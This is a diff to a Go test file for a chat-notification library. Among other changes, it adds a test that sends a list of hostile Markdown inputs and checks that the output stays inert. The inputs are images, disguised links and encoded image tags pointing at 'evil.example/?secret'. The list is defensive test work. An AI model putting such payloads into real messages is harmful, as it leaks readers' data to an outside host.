@@ -9,6 +9,8 @@ import (
 	"unicode/utf8"
 
 	"github.com/go-telegram/bot/models"
+	"github.com/yuin/goldmark/ast"
+	"github.com/yuin/goldmark/text"
 )
 
 // Typical texts of models, in Slack's markup and as plain text.
@@ -75,10 +77,10 @@ func TestPlainTextIsUnchanged(t *testing.T) {
 // Each service gets the markup that it can show.
 func TestPresetsShowMarkdown(t *testing.T) {
 	for preset, want := range map[string]string{
-		"slack":      `{"mrkdwn":true,"text":"*b* \u003chttps://x.example|l\u003e","unfurl_links":false}`,
-		"discord":    `{"allowed_mentions":{"parse":[]},"content":"**b** [l](https://x.example)"}`,
-		"mattermost": `{"text":"**b** [l](https://x.example)"}`,
-		"gotify":     `{"extras":{"client::display":{"contentType":"text/markdown"}},"message":"**b** [l](https://x.example)","title":"Stevedore"}`,
+		"slack":      `{"mrkdwn":true,"text":"*b* \u003chttps://x.example|l\u003e (x.example)","unfurl_links":false,"unfurl_media":false}`,
+		"discord":    `{"allowed_mentions":{"parse":[]},"content":"**b** [l](\u003chttps://x.example\u003e) (x.example)","flags":4}`,
+		"mattermost": "{\"text\":\"**b**\u00a0l `https://x.example`\"}",
+		"gotify":     `{"extras":{"client::display":{"contentType":"text/markdown"}},"message":"**b** [l](\u003chttps://x.example\u003e) (x.example)","title":"Stevedore"}`,
 		"ntfy":       `b l (https://x.example)`,
 	} {
 		h := newHook(t)
@@ -113,9 +115,9 @@ func TestSplitMarkdownIsComplete(t *testing.T) {
 	}
 }
 
-// If Markdown is sent unchanged, a code block that is split is a code block in
-// each message, and no message is too long.
-func TestSplitFencesAreClosed(t *testing.T) {
+// A code block that is split is a code block in each message, and no message is too
+// long with its marks.
+func TestSplitCodeIsClosed(t *testing.T) {
 	h := newHook(t)
 	c, err := NewHTTP("discord", HTTPConfig{URL: h.URL})
 	if err != nil {
@@ -130,13 +132,75 @@ func TestSplitFencesAreClosed(t *testing.T) {
 		if err := json.Unmarshal([]byte(body), &got); err != nil {
 			t.Fatal(err)
 		}
-		begins, ends := strings.HasPrefix(got.Content, "```go\nsome"), strings.HasSuffix(got.Content, "in it\n```")
+		begins, ends := strings.HasPrefix(got.Content, "````\nsome"), strings.HasSuffix(got.Content, "in it\n````")
 		if begins != (i > 0) || ends != (i < len(h.bodies)-1) || utf8.RuneCountInString(got.Content) > 2000 {
 			t.Errorf("message %d of %d: %.60q ... %q", i, len(h.bodies), got.Content, got.Content[len(got.Content)-30:])
 		}
 	}
-	if len(h.bodies) != 3 || !strings.Contains(h.bodies[2], "```\\nand that.") {
+	if len(h.bodies) > 4 || !strings.Contains(h.bodies[len(h.bodies)-1], "````\\n\\nand that.") {
 		t.Errorf("%d messages", len(h.bodies))
+	}
+}
+
+// No service gets an image, a link whose host is hidden, or markup that a text hides in
+// code, because the reader's program would fetch what the author of the text chose.
+func TestNoRemoteContent(t *testing.T) {
+	hostile := []string{
+		"![x](https://evil.example/?secret)", "![][r]\n\n[r]: https://evil.example/?secret", "[![x](https://evil.example/?secret)](https://good.example)",
+		"[https://good.example](https://evil.example/?secret)", "[good.example](https://evil.example/?secret)", "[click](https://good.example@evil.example/?secret)",
+		"<img src=https://evil.example/?secret>", "`![x](https://evil.example/?secret)` ``![x](https://evil.example/?secret)`", "\\![x](https://evil.example/?secret)",
+		"\\`![x](https://evil.example/?secret)\\`", "!\\[x\\](https://evil.example/?secret)", "**![x](https://evil.example/?secret)**", "![x](<https://evil.example/?secret>)",
+		"| a |\n|---|\n| ![x](https://evil.example/?secret) |", "- ![x](https://evil.example/?secret)\n> ![x](https://evil.example/?secret)",
+		"&#33;&#91;x&#93;(https://evil.example/?secret)", "```\ncode\n``` ![x](https://evil.example/?secret)\n```", strings.Repeat("> ", 20) + "![x](https://evil.example/?secret)",
+	}
+	for _, preset := range []string{"discord", "mattermost", "gotify", "http"} {
+		for _, source := range hostile {
+			for _, format := range []string{FormatMarkdown, ""} {
+				if format == "" && shapes[preset].escape == nil {
+					continue // the service shows it as plain text
+				}
+				h := newHook(t)
+				c, err := NewHTTP(preset, HTTPConfig{URL: h.URL, Template: "{{.Text}}", ContentType: "text/plain"})
+				if err != nil {
+					t.Fatal(err)
+				}
+				if err := c.Send(t.Context(), Notification{ID: "1", Text: source, Format: format}); err != nil {
+					t.Fatal(err)
+				}
+				checkInert(t, preset, source, h.bodies[0])
+			}
+		}
+	}
+}
+
+// checkInert parses a message as its service would, and looks for remote content.
+func checkInert(t *testing.T, preset, source, sent string) {
+	t.Helper()
+	root := markdownParser().Parse(text.NewReader([]byte(sent)))
+	err := ast.Walk(root, func(n ast.Node, entering bool) (ast.WalkStatus, error) {
+		if !entering {
+			return ast.WalkContinue, nil
+		}
+		switch n := n.(type) {
+		case *ast.Image:
+			t.Errorf("%s: %q is sent as %q, which has an image", preset, source, sent)
+		case *ast.Link:
+			if preset == "mattermost" || !strings.Contains(sent, "(evil.example)") && strings.Contains(string(n.Destination), "evil") && !strings.Contains(sent, "https://evil.example/?secret)") {
+				t.Errorf("%s: %q is sent as %q, which hides a link", preset, source, sent)
+			}
+		case *ast.CodeSpan, *ast.CodeBlock, *ast.FencedCodeBlock:
+			return ast.WalkSkipChildren, nil
+		case *ast.Text:
+			if preset == "mattermost" && bareURL.Match(n.Value([]byte(sent))) {
+				t.Errorf("%s: %q is sent as %q, which has a URL that the server fetches", preset, source, sent)
+			}
+		case *ast.RawHTML:
+			t.Errorf("%s: %q is sent as %q, which has HTML", preset, source, sent)
+		}
+		return ast.WalkContinue, nil
+	})
+	if err != nil {
+		t.Fatal(err)
 	}
 }
 
